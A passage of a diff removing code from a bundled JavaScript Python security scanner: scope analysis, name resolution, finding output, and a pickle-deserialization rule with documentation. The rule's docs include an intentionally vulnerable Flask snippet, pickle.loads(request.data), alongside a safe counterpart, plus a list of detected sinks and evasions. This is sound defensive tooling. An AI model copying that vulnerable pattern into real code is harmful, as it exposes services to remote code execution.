-  ["keras.saving.saving_api", "keras.saving"],
-  ["keras.src.saving.serialization_lib", "keras.saving"],
-  ["numpy.lib.npyio.load", "numpy.load"],
-  ["pandas.io.pickle.read_pickle", "pandas.read_pickle"],
-  ["modin.pandas.read_pickle", "pandas.read_pickle"],
-  ["pandas.io.pytables.read_hdf", "pandas.read_hdf"],
-  ["pandas.io.pytables.HDFStore", "pandas.HDFStore"],
-  // PyYAML re-exports its loaders and functions at the package level.
-  ["yaml.loader", "yaml"],
-  ["yaml.cyaml", "yaml"],
-  ["yaml.__init__", "yaml"],
-  ["ruamel_yaml", "ruamel.yaml"],
-  ["ruamel.yaml.main", "ruamel.yaml"],
-  ["ruamel.yaml.loader", "ruamel.yaml"],
-  ["ruamel.yaml.cyaml", "ruamel.yaml"]
-];
-var MODULE_ALIASES = [...ALIASES].sort((a, b) => b[0].length - a[0].length);
-function canonicalName(qualifiedName) {
-  for (const [alias, canonical] of MODULE_ALIASES) {
-    if (qualifiedName === alias) return canonical;
-    if (qualifiedName.startsWith(alias) && qualifiedName.charCodeAt(alias.length) === 46) {
-      return canonical + qualifiedName.slice(alias.length);
-    }
-  }
-  return qualifiedName;
-}
-
 // src/languages/python/semantic/string-literal.ts
 var SIMPLE_ESCAPES = {
   "\n": "",
@@ -4448,786 +4396,6 @@ function decodeStringLiteral(text) {
   }
   return out2;
 }
-
-// src/languages/python/semantic/scopes.ts
-var COMPREHENSIONS = /* @__PURE__ */ new Set([
-  "list_comprehension",
-  "set_comprehension",
-  "dictionary_comprehension",
-  "generator_expression"
-]);
-function buildScopes(tree, moduleName) {
-  const module2 = newScope("module", tree.root, null);
-  const calls = [];
-  const subscripts = [];
-  const text = (n) => tree.source.slice(n.start, n.end);
-  const stack = [{ node: tree.root, scope: module2 }];
-  const bind2 = (scope, name2, kind, site, position, extra = {}) => {
-    const target = scope.globals.has(name2) ? module2 : scope;
-    let list = target.bindings.get(name2);
-    if (!list) target.bindings.set(name2, list = []);
-    list.push({ name: name2, kind, site, position, scope: target, ...extra });
-  };
-  const bindTarget = (scope, target, value, kind, position) => {
-    const work = [{ t: target, v: value }];
-    while (work.length) {
-      const { t, v } = work.pop();
-      switch (t.type) {
-        case "identifier":
-          bind2(scope, text(t), v ? kind : "opaque", t, position(t), v ? { value: v } : {});
-          break;
-        case "pattern_list":
-        case "tuple_pattern":
-        case "list_pattern":
-        case "expression_list":
-        case "tuple":
-        case "list": {
-          const values = v && ["expression_list", "tuple", "list", "pattern_list"].includes(v.type) ? v.children : [];
-          const sameShape = values.length === t.children.length;
-          t.children.forEach((c, i2) => work.push({ t: c, v: sameShape ? values[i2] : void 0 }));
-          break;
-        }
-        case "list_splat_pattern":
-        case "parenthesized_expression":
-        case "parenthesized_list_splat":
-          for (const c of t.children) work.push({ t: c, v: void 0 });
-          break;
-        case "as_pattern_target":
-          for (const c of t.children) work.push({ t: c, v });
-          break;
-        default:
-          stack.push({ node: t, scope });
-      }
-    }
-  };
-  const bindParameters = (params, inner, outer) => {
-    if (!params) return;
-    for (const p of params.children) {
-      const name2 = p.type === "identifier" ? p : childByField(p, "name") ?? p.children.find((c) => c.type === "identifier");
-      if (name2 && name2.type === "identifier") bind2(inner, text(name2), "opaque", name2, name2.end);
-      for (const f of ["value", "type"]) {
-        const v = childByField(p, f);
-        if (v) stack.push({ node: v, scope: outer });
-      }
-    }
-  };
-  while (stack.length) {
-    const { node, scope } = stack.pop();
-    switch (node.type) {
-      case "function_definition": {
-        const name2 = childByField(node, "name");
-        if (name2) bind2(scope, text(name2), "function", name2, node.end);
-        const inner = newScope("function", node, scope);
-        bindParameters(childByField(node, "parameters"), inner, scope);
-        for (const c of node.children) {
-          if (c.field === "body") stack.push({ node: c, scope: inner });
-          else if (c.field === "return_type" || c.type === "decorator") stack.push({ node: c, scope });
-        }
-        continue;
-      }
-      case "lambda": {
-        const inner = newScope("lambda", node, scope);
-        bindParameters(childByField(node, "parameters"), inner, scope);
-        const body2 = childByField(node, "body");
-        if (body2) stack.push({ node: body2, scope: inner });
-        continue;
-      }
-      case "class_definition": {
-        const name2 = childByField(node, "name");
-        if (name2) bind2(scope, text(name2), "class", name2, node.end, { classDef: node });
-        const inner = newScope("class", node, scope);
-        for (const c of node.children) {
-          if (c.field === "body") stack.push({ node: c, scope: inner });
-          else if (c.field !== "name") stack.push({ node: c, scope });
-        }
-        continue;
-      }
-      case "decorated_definition":
-        break;
-      case "import_statement":
-        for (const c of node.children) bindImport(c, "", scope, node.end);
-        continue;
-      case "import_from_statement": {
-        const moduleNode = childByField(node, "module_name");
-        const from = moduleNode ? importedModuleName(moduleNode, moduleName, text) : "";
-        for (const c of node.children) {
-          if (c.type === "wildcard_import") scope.starImports.push({ module: from, site: c });
-          else if (c.field === "name") bindImport(c, from, scope, node.end);
-        }
-        continue;
-      }
-      case "future_import_statement":
-        continue;
-      case "global_statement":
-        for (const c of node.children) if (c.type === "identifier") scope.globals.add(text(c));
-        continue;
-      case "nonlocal_statement":
-        for (const c of node.children) if (c.type === "identifier") scope.nonlocals.add(text(c));
-        continue;
-      case "assignment": {
-        let right = childByField(node, "right");
-        let value = right;
-        while (value?.type === "assignment") value = childByField(value, "right");
-        const left = childByField(node, "left");
-        const afterStatement = () => node.end;
-        if (left) bindTarget(scope, left, value, "assignment", afterStatement);
-        if (right?.type === "assignment") {
-          const innerLeft = childByField(right, "left");
-          if (innerLeft) bindTarget(scope, innerLeft, value, "assignment", afterStatement);
-          right = value;
-        }
-        if (right) stack.push({ node: right, scope });
-        const type = childByField(node, "type");
-        if (type) stack.push({ node: type, scope });
-        continue;
-      }
-      case "augmented_assignment": {
-        const left = childByField(node, "left");
-        if (left) bindTarget(scope, left, void 0, "opaque", () => node.end);
-        const right = childByField(node, "right");
-        if (right) stack.push({ node: right, scope });
-        continue;
-      }
-      case "named_expression": {
-        const name2 = childByField(node, "name");
-        const value = childByField(node, "value");
-        let target = scope;
-        while (target.kind === "comprehension" && target.parent) target = target.parent;
-        if (name2) bind2(target, text(name2), value ? "assignment" : "opaque", name2, node.end, value ? { value } : {});
-        if (value) stack.push({ node: value, scope });
-        continue;
-      }
-      case "for_statement":
-      case "for_in_clause": {
-        const left = childByField(node, "left");
-        if (left) bindTarget(scope, left, void 0, "opaque", (site) => site.end);
-        for (const c of node.children) if (c !== left) stack.push({ node: c, scope });
-        continue;
-      }
-      case "as_pattern": {
-        const alias = childByField(node, "alias");
-        const entered = node.parent?.type === "with_item" ? node.children.find((c) => c !== alias) : void 0;
-        if (alias) bindTarget(scope, alias, entered, "assignment", (site) => site.end);
-        for (const c of node.children) if (c !== alias) stack.push({ node: c, scope });
-        continue;
-      }
-      case "call":
-        calls.push({ node, scope });
-        break;
-      case "subscript":
-        subscripts.push({ node, scope });
-        break;
-      default:
-        if (COMPREHENSIONS.has(node.type)) {
-          const inner = newScope("comprehension", node, scope);
-          for (const c of node.children) stack.push({ node: c, scope: inner });
-          continue;
-        }
-    }
-    for (let i2 = node.children.length - 1; i2 >= 0; i2--) stack.push({ node: node.children[i2], scope });
-  }
-  return { module: module2, calls, subscripts };
-  function bindImport(item, from, scope, position) {
-    if (item.type === "aliased_import") {
-      const name2 = childByField(item, "name");
-      const alias = childByField(item, "alias");
-      if (!name2 || !alias) return;
-      const qualifiedName = from ? `${from}.${text(name2)}` : text(name2);
-      bind2(scope, text(alias), "import", alias, position, { qualifiedName });
-    } else if (item.type === "dotted_name") {
-      const dotted = text(item).replace(/\s+/g, "");
-      if (from) {
-        bind2(scope, dotted, "import", item, position, { qualifiedName: `${from}.${dotted}` });
-      } else {
-        const top = dotted.split(".")[0];
-        bind2(scope, top, "import", item, position, { qualifiedName: top });
-      }
-    }
-  }
-}
-function newScope(kind, node, parent) {
-  return { kind, node, parent, bindings: /* @__PURE__ */ new Map(), globals: /* @__PURE__ */ new Set(), nonlocals: /* @__PURE__ */ new Set(), starImports: [] };
-}
-function importedModuleName(node, moduleName, text) {
-  if (node.type !== "relative_import") return text(node).replace(/\s+/g, "");
-  const prefix = node.children.find((c) => c.type === "import_prefix");
-  const rest = node.children.find((c) => c.type === "dotted_name");
-  const level = prefix ? text(prefix).length : 0;
-  const restText = rest ? text(rest).replace(/\s+/g, "") : "";
-  const parts2 = moduleName ? moduleName.split(".") : [];
-  if (!moduleName || level > parts2.length) return ".".repeat(level) + restText;
-  const base = parts2.slice(0, parts2.length - level);
-  if (restText) base.push(restText);
-  return base.join(".");
-}
-
-// src/languages/python/semantic/model.ts
-var MAX_DEPTH = 32;
-var LOCAL = "<local>.";
-var SemanticModel = class {
-  constructor(tree, moduleName) {
-    this.tree = tree;
-    const index = buildScopes(tree, moduleName);
-    this.calls = index.calls;
-    this.subscripts = index.subscripts;
-    this.module = index.module;
-  }
-  tree;
-  calls;
-  subscripts;
-  module;
-  bindingCache = /* @__PURE__ */ new Map();
-  inProgress = /* @__PURE__ */ new Set();
-  text(node) {
-    return this.tree.source.slice(node.start, node.end);
-  }
-  /** All qualified names `expr` may denote in `scope`; empty when unknown. */
-  resolve(expr, scope, depth = 0) {
-    if (depth > MAX_DEPTH) return [];
-    const node = unwrapParentheses(expr);
-    switch (node.type) {
-      case "identifier":
-        return this.resolveName(this.text(node), scope, node, depth);
-      case "attribute":
-        return this.resolveAttribute(node, scope, depth);
-      case "call":
-        return this.resolveCallResult(node, scope, depth);
-      case "subscript":
-        return this.resolveSubscript(node, scope, depth);
-      case "conditional_expression": {
-        const [a, , b] = node.children;
-        return [...a ? this.resolve(a, scope, depth + 1) : [], ...b ? this.resolve(b, scope, depth + 1) : []];
-      }
-      case "boolean_operator": {
-        const left = childByField(node, "left");
-        const right = childByField(node, "right");
-        return [...left ? this.resolve(left, scope, depth + 1) : [], ...right ? this.resolve(right, scope, depth + 1) : []];
-      }
-      case "named_expression": {
-        const value = childByField(node, "value");
-        return value ? this.resolve(value, scope, depth + 1) : [];
-      }
-      default:
-        return [];
-    }
-  }
-  /** The string an expression always evaluates to, when it is built from literals (and names bound to them). */
-  constantString(expr, scope, depth = 0) {
-    if (depth > MAX_DEPTH) return void 0;
-    const node = unwrapParentheses(expr);
-    switch (node.type) {
-      case "string":
-        return this.stringLiteral(node);
-      case "concatenated_string": {
-        let out2 = "";
-        for (const part of node.children) {
-          const s = this.stringLiteral(part);
-          if (s === void 0) return void 0;
-          out2 += s;
-        }
-        return out2;
-      }
-      case "binary_operator": {
-        const left = childByField(node, "left");
-        const right = childByField(node, "right");
-        if (!left || !right || this.tree.source.slice(left.end, right.start).trim() !== "+") return void 0;
-        const l = this.constantString(left, scope, depth + 1);
-        const r = l === void 0 ? void 0 : this.constantString(right, scope, depth + 1);
-        return l === void 0 || r === void 0 ? void 0 : l + r;
-      }
-      case "identifier": {
-        const bindings = this.lookup(this.text(node), scope, node);
-        if (!bindings || bindings.length !== 1) return void 0;
-        const [b] = bindings;
-        return b.kind === "assignment" && b.value ? this.constantString(b.value, b.scope, depth + 1) : void 0;
-      }
-      default:
-        return void 0;
-    }
-  }
-  /** Bindings that `name` may refer to at `use` (LEGB, class bodies invisible to nested scopes). */
-  lookup(name2, scope, use) {
-    let s = scope;
-    let sameScope = true;
-    while (s) {
-      if (!sameScope && s.kind === "class") {
-        s = s.parent;
-        continue;
-      }
-      if (s.globals.has(name2) && s !== this.module) {
-        s = this.module;
-        sameScope = false;
-        continue;
-      }
-      const bindings = s.bindings.get(name2);
-      if (bindings?.length) return sameScope ? reachingBindings(bindings, use, s) : bindings;
-      sameScope = false;
-      s = s.parent;
-    }
-    return void 0;
-  }
-  /** Base classes of a class defined in this file, resolved transitively through other local classes. */
-  classAncestors(classDef, scope) {
-    const out2 = [];
-    const seen = /* @__PURE__ */ new Set();
-    const work = [{ def: classDef, scope }];
-    while (work.length && seen.size < MAX_DEPTH) {
-      const { def, scope: defScope } = work.pop();
-      if (seen.has(def)) continue;
-      seen.add(def);
-      const bases = childByField(def, "superclasses");
-      if (!bases) continue;
-      for (const base of bases.children) {
-        if (base.type === "keyword_argument") continue;
-        for (const r of this.resolve(base, defScope)) {
-          out2.push(r);
-          if (r.localClass) work.push({ def: r.localClass, scope: this.scopeOfDefinition(r.localClass) ?? defScope });
-        }
-      }
-    }
-    return out2;
-  }
-  scopeOfDefinition(def) {
-    const find = (scope) => {
-      for (const list of scope.bindings.values()) for (const b of list) if (b.classDef === def) return scope;
-      return void 0;
-    };
-    return find(this.module) ?? this.calls.map((c) => c.scope).find((s) => find(s));
-  }
-  resolveName(name2, scope, use, depth) {
-    const bindings = this.lookup(name2, scope, use);
-    if (!bindings) {
-      const fromStar = this.module.starImports.map((s) => ({ name: canonicalName(`${s.module}.${name2}`) }));
-      if (PYTHON_BUILTINS.has(name2)) fromStar.push({ name: `builtins.${name2}` });
-      return fromStar;
-    }
-    const out2 = [];
-    for (const b of bindings) out2.push(...this.resolveBinding(b, depth));
-    return out2;
-  }
-  resolveBinding(b, depth) {
-    switch (b.kind) {
-      case "import":
-        return [{ name: canonicalName(b.qualifiedName) }];
-      case "function":
-        return [{ name: LOCAL + b.name }];
-      case "class":
-        return [{ name: LOCAL + b.name, localClass: b.classDef }];
-      case "opaque":
-        return [];
-      case "assignment": {
-        const cached3 = this.bindingCache.get(b);
-        if (cached3) return cached3;
-        if (this.inProgress.has(b) || !b.value) return [];
-        this.inProgress.add(b);
-        const result2 = this.resolve(b.value, b.scope, depth + 1);
-        this.inProgress.delete(b);
-        this.bindingCache.set(b, result2);
-        return result2;
-      }
-    }
-  }
-  resolveAttribute(node, scope, depth) {
-    const attributes = [];
-    let base = node;
-    while (base.type === "attribute") {
-      const attr = childByField(base, "attribute");
-      const object = childByField(base, "object");
-      if (!attr || !object) return [];
-      attributes.push(this.text(attr));
-      base = unwrapParentheses(object);
-    }
-    attributes.reverse();
-    const suffix = attributes.join(".");
-    return this.resolve(base, scope, depth + 1).map((r) => ({
-      name: canonicalName(`${r.name}.${suffix}`),
-      ...attributes.length === 1 && r.constructedBy ? { constructedBy: r.constructedBy } : {}
-    }));
-  }
-  resolveCallResult(node, scope, depth) {
-    const callee = childByField(node, "function");
-    if (!callee) return [];
-    const args2 = childByField(node, "arguments");
-    const positional = args2 ? args2.children.filter((c) => c.type !== "keyword_argument" && c.type !== "comment") : [];
-    const keyword = (name2) => args2?.children.find((c) => c.type === "keyword_argument" && this.text(childByField(c, "name") ?? c) === name2);
-    const out2 = [];
-    for (const c of this.resolve(callee, scope, depth + 1)) {
-      switch (c.name) {
-        case "importlib.import_module":
-        case "importlib.__import__":
-        case "builtins.__import__": {
-          const moduleArg2 = positional[0] ?? valueOf(keyword("name"));
-          const moduleName = moduleArg2 && this.constantString(moduleArg2, scope, depth + 1);
-          if (!moduleName || moduleName.startsWith(".")) break;
-          const fromlist = positional[3] ?? valueOf(keyword("fromlist"));
-          const wantsLeaf = c.name === "importlib.import_module" || fromlist && !isEmptyLiteral(fromlist);
-          out2.push({ name: canonicalName(wantsLeaf ? moduleName : moduleName.split(".")[0]) });
-          break;
-        }
-        case "builtins.getattr": {
-          const attr = positional[1] && this.constantString(positional[1], scope, depth + 1);
-          if (positional[0] && attr) {
-            for (const o of this.resolve(positional[0], scope, depth + 1)) out2.push({ name: canonicalName(`${o.name}.${attr}`) });
-          }
-          break;
-        }
-        case "builtins.vars":
-          if (positional[0]) {
-            for (const o of this.resolve(positional[0], scope, depth + 1)) out2.push({ name: `${o.name}.__dict__` });
-          }
-          break;
-        case "functools.partial":
-          if (positional[0]) out2.push(...this.resolve(positional[0], scope, depth + 1));
-          break;
-        default:
-          out2.push({ name: `${c.name}()`, constructedBy: { call: node, scope } });
-      }
-    }
-    return out2;
-  }
-  resolveSubscript(node, scope, depth) {
-    const value = childByField(node, "value");
-    const index = childByField(node, "subscript");
-    if (!value || !index) return [];
-    const key = this.constantString(index, scope, depth + 1);
-    if (key === void 0) return [];
-    const out2 = [];
-    for (const v of this.resolve(value, scope, depth + 1)) {
-      if (v.name === "sys.modules") out2.push({ name: canonicalName(key) });
-      else if (v.name.endsWith(".__dict__")) out2.push({ name: canonicalName(`${v.name.slice(0, -".__dict__".length)}.${key}`) });
-    }
-    return out2;
-  }
-  stringLiteral(node) {
-    return node.type === "string" ? decodeStringLiteral(this.text(node)) : void 0;
-  }
-};
-function unwrapParentheses(node) {
-  let n = node;
-  while (n.type === "parenthesized_expression" && n.children.length === 1) n = n.children[0];
-  return n;
-}
-function valueOf(keywordArgument) {
-  return keywordArgument ? childByField(keywordArgument, "value") : void 0;
-}
-function isEmptyLiteral(node) {
-  return (node.type === "list" || node.type === "tuple") && node.children.length === 0;
-}
-function reachingBindings(bindings, use, scope) {
-  const preceding = bindings.filter((b) => b.position <= use.start).sort((a, b) => a.position - b.position);
-  if (!preceding.length) return bindings;
-  const out2 = [];
-  for (let i2 = preceding.length - 1; i2 >= 0; i2--) {
-    out2.push(preceding[i2]);
-    if (isUnconditional(preceding[i2].site, use, scope.node)) break;
-  }
-  return out2;
-}
-function isUnconditional(site, use, scopeNode) {
-  for (let n = site.parent; n && n !== scopeNode; n = n.parent) {
-    if (n.type === "block" && n.parent?.type !== "with_statement" && !isAncestor(n, use)) return false;
-  }
-  return true;
-}
-
-// src/languages/python/analyze.ts
-var MAX_SNIPPET_LINES = 5;
-function mayMatch(source, rules) {
-  for (const rule of rules) for (const token of rule.prefilter) if (source.includes(token)) return true;
-  return hasComputedDynamicImport(source);
-}
-var COMPUTED_DYNAMIC_IMPORT = /(?:__import__|import_module)\s*\(\s*(?![rRuU]?(?:'[\w.]*'|"[\w.]*")\s*[,)])/;
-function hasComputedDynamicImport(source) {
-  return (source.includes("__import__") || source.includes("import_module")) && COMPUTED_DYNAMIC_IMPORT.test(source);
-}
-var SinkIndex = class {
-  constructor(rules) {
-    this.rules = rules;
-    this.hasReferenceSinks = rules.some((r) => r.sinks.some((s) => s.references));
-    for (const rule of rules) {
-      for (const spec of rule.sinks) {
-        for (const name2 of spec.call) {
-          let list = this.byName.get(name2);
-          if (!list) this.byName.set(name2, list = []);
-          list.push({ rule, spec });
-        }
-      }
-    }
-  }
-  rules;
-  byName = /* @__PURE__ */ new Map();
-  /** Some sink is also reported when passed as a callback. */
-  hasReferenceSinks;
-};
-function analyzePython(parser, file, index) {
-  if (!mayMatch(file.source, index.rules)) return { findings: [], errors: [], parsed: false };
-  const tree = parser.parse(file.source);
-  const errors = [];
-  if (tree.problems.length) {
-    const first = tree.problems[0];
-    errors.push({
-      file: file.path,
-      kind: "syntax",
-      level: "warning",
-      line: first.row + 1,
-      column: first.col + 1,
-      message: `syntax error${tree.problems.length > 1 ? `s (${tree.problems.length})` : ""}, first at line ${first.row + 1}; scanned what parsed`
-    });
-  }
-  const model = new SemanticModel(tree, file.moduleName);
-  const matches = collectMatches(model, index);
-  const findings = matches.map((m) => toFinding(m, file, model));
-  applySuppressions(findings, tree.comments.map((c) => ({ row: c.startRow, text: model.text(c) })), index.rules);
-  assignFingerprints(findings, matches);
-  return { findings, errors, parsed: true };
-}
-function collectMatches(model, index) {
-  const out2 = [];
-  const reported = /* @__PURE__ */ new Set();
-  const report = (m) => {
-    const key = `${m.rule.id}@${m.node.start}:${m.node.end}`;
-    if (reported.has(key)) return;
-    const outcome = m.spec.check ? m.spec.check(m) : {};
-    if (outcome === null) return;
-    reported.add(key);
-    out2.push({ ...m, outcome });
-  };
-  for (const { node, scope } of model.calls) {
-    const callee = childByField(node, "function");
-    if (!callee) continue;
-    let args2;
-    const argsOf = () => args2 ??= new CallArguments(node, model.tree.source);
-    const resolvedCallee = uniqueNames(model.resolve(callee, scope));
-    const base = { node, calleeText: "", model, scope };
-    for (const resolved of resolvedCallee) {
-      const sinks = index.byName.get(resolved.name);
-      if (!sinks && !resolved.localClass) continue;
-      base.calleeText ||= shortened(model.text(callee));
-      const receiver = resolved.constructedBy && {
-        ...resolved.constructedBy,
-        args: new CallArguments(resolved.constructedBy.call, model.tree.source)
-      };
-      for (const sink of sinks ?? []) {
-        report({ ...base, args: argsOf(), ...sink, target: resolved.name, via: "call", ...receiver ? { receiver } : {} });
-      }
-      if (resolved.localClass) {
-        for (const ancestor of uniqueNames(model.classAncestors(resolved.localClass, scope))) {
-          for (const sink of index.byName.get(ancestor.name) ?? []) {
-            if (!sink.spec.subclasses) continue;
-            const subclass = { name: resolved.name.replace(/^<local>\./, ""), overridesFindClass: definesMethod(model, resolved.localClass, "find_class") };
-            report({ ...base, args: argsOf(), ...sink, target: ancestor.name, via: "subclass", subclass });
-          }
-        }
-      }
-    }
-    if (!index.hasReferenceSinks) continue;
-    for (const value of argsOf().values()) {
-      if (value.type !== "identifier" && value.type !== "attribute") continue;
-      for (const resolved of uniqueNames(model.resolve(value, scope))) {
-        for (const sink of index.byName.get(resolved.name) ?? []) {
-          if (!sink.spec.references) continue;
-          const empty = new CallArguments(void 0, "");
-          report({ node: value, calleeText: shortened(model.text(value)), args: empty, model, scope, ...sink, target: resolved.name, via: "reference" });
-        }
-      }
-    }
-  }
-  return withoutCoveredReferences(out2);
-}
-function withoutCoveredReferences(matches) {
-  const calls = matches.filter((m) => m.via !== "reference");
-  return matches.filter(
-    (m) => m.via !== "reference" || !calls.some((c) => c.rule === m.rule && c.node.start <= m.node.start && m.node.end <= c.node.end)
-  );
-}
-function toFinding(m, file, model) {
-  const outcome = m.outcome ?? {};
-  const lines = lineSlice(model.tree.source, m.node.startRow, Math.min(m.node.endRow, m.node.startRow + MAX_SNIPPET_LINES - 1));
-  return {
-    ruleId: m.rule.id,
-    ruleName: m.rule.name,
-    message: outcome.message ?? m.spec.message(m),
-    severity: outcome.severity ?? m.rule.severity,
-    confidence: outcome.confidence ?? (m.via === "reference" ? "medium" : m.rule.confidence),
-    location: {
-      file: file.path,
-      line: m.node.startRow + 1,
-      column: m.node.startCol + 1,
-      endLine: m.node.endRow + 1,
-      endColumn: m.node.endCol + 1,
-      snippet: lines
-    },
-    cwe: m.rule.cwe,
-    owasp: m.rule.owasp,
-    fingerprint: "",
-    ...outcome.fix ? { fix: outcome.fix } : {}
-  };
-}
-function applySuppressions(findings, comments, rules) {
-  if (!comments.length) return;
-  const byRow = /* @__PURE__ */ new Map();
-  for (const c of comments) {
-    const d = parseSuppression(c.text);
-    if (d) byRow.set(c.row + 1, d);
-  }
-  if (!byRow.size) return;
-  const banditIds = new Map(rules.map((r) => [r.id, r.banditIds]));
-  for (const f of findings) {
-    for (let line = f.location.line; line <= f.location.endLine && !f.suppressed; line++) {
-      const d = byRow.get(line);
-      if (d) f.suppressed = suppresses(d, f.ruleId, banditIds.get(f.ruleId) ?? []);
-    }
-  }
-}
-function assignFingerprints(findings, matches) {
-  const seen = /* @__PURE__ */ new Map();
-  findings.forEach((f, i2) => {
-    const m = matches[i2];
-    const code3 = m.model.text(m.node).replace(/\s+/g, "");
-    const key = `${f.ruleId}|${f.location.file}|${enclosingPath(m.scope, m.model)}|${code3}`;
-    const n = seen.get(key) ?? 0;
-    seen.set(key, n + 1);
-    f.fingerprint = stableHash(`${key}|${n}`);
-  });
-}
-function enclosingPath(scope, model) {
-  const names = [];
-  for (let s = scope; s && s.kind !== "module"; s = s.parent) {
-    const name2 = childByField(s.node, "name");
-    names.push(name2 ? model.text(name2) : s.kind);
-  }
-  return names.reverse().join(".");
-}
-function definesMethod(model, classDef, method) {
-  const body2 = childByField(classDef, "body");
-  if (!body2) return false;
-  return body2.children.some((stmt) => {
-    const def = stmt.type === "decorated_definition" ? childByField(stmt, "definition") : stmt;
-    const name2 = def?.type === "function_definition" ? childByField(def, "name") : void 0;
-    return name2 !== void 0 && model.text(name2) === method;
-  });
-}
-function shortened(code3) {
-  const compact = code3.replace(/\s+/g, "");
-  return compact.length > 60 ? compact.slice(0, 57) + "..." : compact;
-}
-function uniqueNames(names) {
-  const seen = /* @__PURE__ */ new Set();
-  return names.filter((n) => !seen.has(n.name) && (seen.add(n.name), true));
-}
-function lineSlice(source, fromRow, toRow) {
-  let start2 = 0;
-  for (let row = 0; row < fromRow; row++) {
-    const nl = source.indexOf("\n", start2);
-    if (nl < 0) return "";
-    start2 = nl + 1;
-  }
-  let end = start2;
-  for (let row = fromRow; row <= toRow; row++) {
-    const nl = source.indexOf("\n", end);
-    end = nl < 0 ? source.length : nl + 1;
-  }
-  return source.slice(start2, end).replace(/\r?\n$/, "").replace(/\r/g, "");
-}
-
-// src/rules/rule.ts
-function defineRule(rule) {
-  return rule;
-}
-function code(s) {
-  return "`" + s + "`";
-}
-
-// src/rules/python/shared-docs.ts
-var DESERIALIZATION_COMPLIANCE = [
-  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
-  { framework: "OWASP Top 10", control: "A08:2021 Software and Data Integrity Failures" },
-  { framework: "NIST SP 800-53", control: "SI-10 Information Input Validation" },
-  { framework: "PCI DSS v4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
-];
-var DESERIALIZATION_REFERENCES = [
-  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
-  { title: "OWASP Top 10 A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
-  { title: "OWASP Deserialization Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html" },
-  { title: "Python documentation: pickle (security warning)", url: "https://docs.python.org/3/library/pickle.html" },
-  { title: "Bandit B301: pickle", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" }
-];
-
-// src/rules/python/PYTHON-LANG-SEC-040.ts
-var PICKLE_SINKS = ["pickle.loads", "pickle.load", "pickle.Unpickler", "pickle._loads", "pickle._load", "pickle._Unpickler"];
-function message(m) {
-  const spelled2 = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
-  switch (m.via) {
-    case "subclass":
-      return `${code(m.subclass.name)} subclasses ${m.target} and unpickles its input` + (m.subclass.overridesFindClass ? "; overriding find_class narrows what loads but does not make untrusted data safe: restricted unpicklers are routinely bypassed" : "") + ". Use a data-only format for untrusted input.";
-    case "reference":
-      return `${spelled2} is passed as a callable: every value it is applied to is unpickled, which can run arbitrary code. Use a data-only format for untrusted input.`;
-    default:
-      return `${spelled2} deserializes with pickle, which runs whatever code the bytes describe. Never unpickle data that could come from an untrusted source; use a data-only format such as JSON.`;
-  }
-}
-var PYTHON_LANG_SEC_040_default = defineRule({
-  id: "PYTHON-LANG-SEC-040",
-  name: "Pickle Deserialization of Untrusted Data",
-  language: "python",
-  severity: "high",
-  confidence: "high",
-  precision: "high",
-  cwe: ["CWE-502"],
-  owasp: ["A08:2021"],
-  compliance: DESERIALIZATION_COMPLIANCE,
-  tags: ["security", "deserialization", "pickle", "rce", "cwe-502"],
-  bundles: ["lang", "deserialization"],
-  banditIds: ["B301"],
-  similar: ["PYTHON-LANG-SEC-044", "PYTHON-LANG-SEC-045", "PYTHON-LANG-SEC-046", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-005"],
-  prefilter: ["pickle", "Pickle"],
-  sinks: [{ call: PICKLE_SINKS, subclasses: true, references: true, message }],
-  docs: {
-    summary: "Detects pickle deserialization (`pickle.loads`, `pickle.load`, `pickle.Unpickler`), which executes arbitrary code from its input.",
-    description: 'Python\'s `pickle` format is a small stack-based program, not a data format. Loading a pickle runs that program: it can import any module and call any function with any arguments (`os.system`, `subprocess.Popen`, `eval`, ...). This rule reports every call that unpickles: `pickle.loads`, `pickle.load`, `pickle.Unpickler(...)` and its subclasses, and the same functions reached through `cPickle`, `_pickle`, `pickle5`, `six.moves.cPickle`, import aliases, `from pickle import *`, rebinding (`loader = pickle.loads`), `importlib.import_module("pickle")`, `__import__("pickle")`, `getattr(pickle, "loads")` and `functools.partial`. It also reports `pickle.loads` passed uncalled as a callback (`map(pickle.loads, blobs)`).',
-    securityImplications: "Anyone who can influence the bytes that reach the unpickler can run code with the privileges of the process: read secrets and credentials, move laterally, install a backdoor, or tamper with data. Typical entry points are request bodies, cookies and session stores, message queues, caches (Redis, memcached), files uploaded by users, and model or data files downloaded from the internet. There is no safe subset of pickle and no way to sanitize a payload before loading it; restricting `find_class` in an `Unpickler` subclass reduces the attack surface but has been bypassed repeatedly (gadgets in allowed modules, `getattr` chains, nested pickles).",
-    howToFix: "Do not unpickle data that crosses a trust boundary. Serialize with a data-only format instead: `json`, `msgpack`, Protocol Buffers, or `safetensors` for tensors and model weights. If pickle must stay for data the process produced itself, authenticate it before loading (an HMAC with a server-side key, verified with `hmac.compare_digest`), keep it out of reach of users, and treat the key as a secret.",
-    fixHint: "Use a data-only format (json, msgpack, safetensors) or verify an HMAC before unpickling data you produced yourself.",
-    vulnerableExample: [
-      "import pickle",
-      "from flask import request",
-      "",
-      '@app.route("/session", methods=["POST"])',
-      "def restore_session():",
-      "    session = pickle.loads(request.data)  # attacker-controlled bytes run as code",
-      '    return session["user"]'
-    ].join("\n"),
-    safeExample: [
-      "import json",
-      "from flask import request",
-      "",
-      '@app.route("/session", methods=["POST"])',
-      "def restore_session():",
-      "    session = json.loads(request.data)  # data only: no code runs",
-      '    return session["user"]'
-    ].join("\n"),
